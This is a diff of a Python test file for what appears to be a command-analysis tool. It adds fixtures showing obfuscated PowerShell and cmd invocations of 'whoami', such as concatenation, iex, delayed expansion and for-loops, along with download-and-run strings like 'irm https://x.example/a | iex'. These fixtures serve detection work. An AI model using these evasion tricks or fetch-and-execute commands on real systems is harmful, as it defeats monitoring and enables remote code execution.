@@ -15,7 +15,7 @@ from yett.errors import PolicyError
 from yett.extract import windows
 from yett.extract.budget import Budget
 from yett.extract.facts import Command
-from yett.extract.windows import cmd, powershell, profiles
+from yett.extract.windows import cmd, profiles, values
 
 
 def commands(text: str, **options: str) -> tuple[Command, ...]:
@@ -77,6 +77,30 @@ def encoded(script: str) -> str:
             + "')))",
             "whoami",
         ),
+        (".('who'+'ami')", "whoami"),
+        ("$a='who'; $a+='ami'; .$a", "whoami"),
+        ("S'et-'Date 2001-01-01", "set-date"),
+        ("& \u2018whoami\u2019", "whoami"),
+        ("& ('__whoami__'.Trim('_'))", "whoami"),
+        ("'whoami' | iex", "whoami"),
+        ("sal zz 'whoami'; zz", "whoami"),
+        ("$ExecutionContext.InvokeCommand.InvokeScript('whoami')", "whoami"),
+        ("[powershell]::Create().AddScript('whoami').Invoke()", "whoami"),
+        ("& ( $pshome[4]+$pshome[30]+'x') 'whoami'", "whoami"),
+        (". ( $env:comspec[4,15,25]-join'') 'whoami'", "whoami"),
+        ("$z = {whoami}; & $z", "whoami"),
+        ("if(1){whoami}", "whoami"),
+        ("function zz { whoami }; zz", "whoami"),
+        ("whoami `\n/all", "whoami"),
+        ('cmd /v:on /c "set q=whoami /all&!q!"', "whoami"),
+        ('cmd /v:on /c "set x=zzwhoamizz&& !x:~2,6!"', "whoami"),
+        ('cmd /v:on /c "set x=whQami&& call !x:Q=o!"', "whoami"),
+        ("set x=whoami /all&& call %x%", "whoami"),
+        ("for %i in (whoami) do %i /all", "whoami"),
+        ('for /f "tokens=1,2" %a in ("who ami") do %a%b', "whoami"),
+        ("for /f \"delims=\" %i in ('echo whoami /all') do %i", "whoami"),
+        ('cmd /q/d/c "whoami /all"', "whoami"),
+        ('start /b "" whoami /all', "whoami"),
         ("Get-Process | % { whoami }", "whoami"),
         ('Write-Host "$(whoami)"', "whoami"),
         ("Start-Process cmd -ArgumentList '/c whoami'", "whoami"),
@@ -279,6 +303,11 @@ def test_cmd_separators_and_redirections() -> None:
         ("& (Get-Content C:\\x\\a.txt)", "dynamic_program"),
         ("& (Get-Command *voke-Exp*) x", "dynamic_program"),
         ("& (Get-Command -CommandType Application -Name $x)", "dynamic_program"),
+        ("& (Join-Path C:\\x (irm https://x.example/name))", "dynamic_program"),
+        ('& "$(irm https://x.example/name)"', "dynamic_program"),
+        ("for /f %i in ('where /r . *.exe') do %i", "dynamic_program"),
+        ("set /p q=<a.txt & call %q%", "dynamic_program"),
+        ('cmd /v:on /c "for %i in (1,2) do set t=!t!!s:~%i,1!& call %t%"', "dynamic_program"),
         ("Invoke-Expression $code", "dynamic_code"),
         ("irm https://x.example/a | iex", "dynamic_code"),
         ('$c = irm https://x.example/a; iex "cd x; $c"', "dynamic_code"),
@@ -336,8 +365,8 @@ def test_nothing_makes_the_analysis_raise(text: str) -> None:
 
 
 def test_base64_that_is_none_decodes_to_nothing() -> None:
-    assert powershell.decode_base64("!!!") is None
-    assert powershell.decode_base64(encoded("héllo")) == "héllo"
+    assert values.decode_base64("!!!") is None
+    assert values.decode_base64(encoded("héllo")) == "héllo"
 
 
 @pytest.mark.parametrize(
